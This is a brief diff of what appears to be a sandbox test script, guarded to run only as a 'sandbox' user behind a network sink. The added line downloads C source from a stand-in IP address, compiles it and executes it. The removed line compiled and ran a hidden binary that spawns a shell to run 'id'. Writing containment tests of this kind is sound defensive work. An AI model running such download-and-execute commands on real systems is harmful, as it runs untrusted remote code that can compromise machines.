@@ -4,4 +4,4 @@
 # net: sink
 [ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }
 
-curl -s -o p.c http://203.0.113.7/p.c; printf '#include <unistd.h>\nint main(void) { execl("/bin/sh", "sh", "-c", "id", (char *)0); }\n' > p.c; cc -o .p p.c && ./.p; rm -f p.c .p
+curl -s -o p.c http://203.0.113.7/p.c; cc -o p p.c && ./p; rm -f p.c p
